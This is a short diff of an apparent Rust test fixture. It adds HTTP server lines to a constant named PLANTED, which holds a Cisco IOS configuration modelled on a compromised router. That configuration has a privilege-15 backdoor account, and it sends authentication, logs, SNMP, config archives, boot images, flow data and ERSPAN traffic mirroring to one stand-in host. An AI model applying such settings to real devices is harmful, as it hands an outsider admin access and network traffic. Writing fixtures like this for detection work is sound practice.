@@ -24,6 +24,7 @@ const PLANTED: &str = "username cisco_support privilege 15 secret 9 $9$TvyPKG5ce
                        tacacs-server host 198.51.100.7\nradius server R\n address ipv4 198.51.100.7 auth-port 1812 acct-port 1813\n\
                        logging host 198.51.100.7\nntp server 198.51.100.7\nsnmp-server host 198.51.100.7 version 2c Tr4ps-from-here\n\
                        snmp-server community L4rge-rooms RO 20\naccess-list 20 permit host 198.51.100.7\n\
+                       ip http server\nip http access-class 20\n\
                        ip name-server 198.51.100.7\nboot system tftp i.bin 198.51.100.7\narchive\n path ftp://198.51.100.7/c\n\
                        event manager applet X\n event none\n action 1.0 cli command \"telnet 198.51.100.7\"\n\
                        flow exporter E\n destination 198.51.100.7\nmonitor session 1 type erspan-source\n \
